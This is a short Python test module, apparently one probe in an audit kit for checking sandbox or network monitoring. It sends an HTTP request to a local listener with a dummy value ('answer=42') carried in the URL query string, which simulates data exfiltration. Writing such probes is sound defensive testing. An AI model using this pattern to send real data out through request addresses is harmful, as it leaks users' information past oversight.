# mypy: ignore-errors
"""Asks a listener for a page by HTTP, with what it knows in the address."""

import urllib.request

from adrs.audit.attacks.kit import attempt

WITNESS = "packet"
BARE = True


def attack(bait):
    address = f"http://127.0.0.1:{bait['tcp']}/?answer=42"
    attempt("http", lambda: urllib.request.urlopen(address, timeout=0.3))
